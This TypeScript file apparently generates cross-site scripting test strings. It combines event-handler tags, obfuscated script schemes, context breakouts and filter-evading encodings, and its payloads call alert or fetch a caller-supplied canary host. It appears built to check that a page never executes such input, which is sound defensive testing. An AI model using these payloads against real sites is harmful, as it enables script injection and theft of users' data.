// IN-01: strings that would do something in a page that took them for more than text. Made from their parts, so that each
// way of carrying code meets each way of hiding it: tags and handlers, addresses, ways out of what surrounds them.
const HANDLERS: readonly (readonly [tag: string, handler: string])[] = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg><animate', 'onbegin'],
  ['svg><set attributeName=x dur=1s', 'onend'],
  ['body', 'onpageshow'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['video><source', 'onerror'],
  ['audio src=x', 'onerror'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['iframe src=about:blank', 'onload'],
  ['object data=x', 'onerror'],
  ['style', 'onload'],
  ['p style="animation-name:x"', 'onanimationstart'],
  ['b contenteditable tabindex=1 autofocus', 'onfocusin'],
  ['a href=x draggable=true', 'ondragstart'],
  ['div popover', 'onbeforetoggle'],
  ['math><mtext><img src=x', 'onerror'],
];

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java&#10;script:',
  '&#106;avascript:',
  '\\u006aavascript:',
  ' javascript:',
  'javascript://%0a',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,',
  'blob:',
  'view-source:javascript:',
];

const CARRIERS: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<iframe src='${address}'></iframe>`,
  (address) => `<form action="${address}"><button>x`,
  (address) => `[x](${address})`,
  (address) => `<svg><a xlink:href="${address}"><text>x`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
];

const WAYS_OUT = ['">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>', '</style>', '`-', '"}}', '\u2028'];

const HIDINGS: readonly ((text: string) => string)[] = [
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;'),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', String.raw`\u003c`),
  (text) => text.replaceAll('<', String.raw`\x3c`),
  (text) => text.replaceAll('<', '%253C'),
  (text) => text.replaceAll(/./gu, (sign) => `&#x${sign.codePointAt(0)?.toString(16)};`),
  (text) => text.replaceAll('<', '<\u200b'),
  (text) => text.replaceAll(' ', '/').toUpperCase(),
  (text) => `\u202e${text}`,
  (text) => `{{constructor.constructor('${text.replaceAll("'", '')}')()}}`,
  (text) => `\${${text}}`,
];

/** Each with a number of its own, so that one that acts says which it was. `canary` is a host that must hear nothing. */
export const xssStrings = (canary: string): string[] => {
  let number = 0;
  const act = (): string => {
    number += 1;
    return number % 2 === 0 ? `alert(${number})` : `fetch('//${canary}/${number}')`;
  };
  const script = (): string => `<script>${act()}</script>`;
  return [
    ...HANDLERS.map(([tag, handler]) => `<${tag} ${handler}=${act()}>`),
    ...HANDLERS.map(([tag, handler]) => `<${tag}\n${handler.toUpperCase()} = "${act()}"//`),
    ...SCHEMES.flatMap((scheme) => CARRIERS.map((carry) => carry(scheme + act()))),
    ...WAYS_OUT.flatMap((out) => [out + script(), `${out}<img src=//${canary}/${out.length} onerror=${act()}>`]),
    ...HIDINGS.flatMap((hide) => [hide(script()), hide(`<img src=x onerror=${act()}>`)]),
    `<script src=//${canary}/a.js></script>`,
    `<link rel=stylesheet href=//${canary}/a.css>`,
    `<style>@import '//${canary}/b.css';*{background:url(//${canary}/c)}</style>`,
    `<base href=//${canary}/>`,
    `<embed src=//${canary}/d>`,
    `<template shadowrootmode=open>${script()}</template>`,
    `<noscript><p title="</noscript>${script()}">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${script()}">`,
    `<scr<script>ipt>${act()}</scr</script>ipt>`,
  ];
};

/** As few texts as hold all of them, a line each. */
export const packed = (strings: readonly string[], max: number): string[] => {
  const packs: string[] = [];
  for (const one of strings) {
    const last = packs.at(-1);
    if (last !== undefined && last.length + one.length + 1 <= max) packs[packs.length - 1] = `${last}\n${one}`;
    else packs.push(one);
  }
  return packs;
};
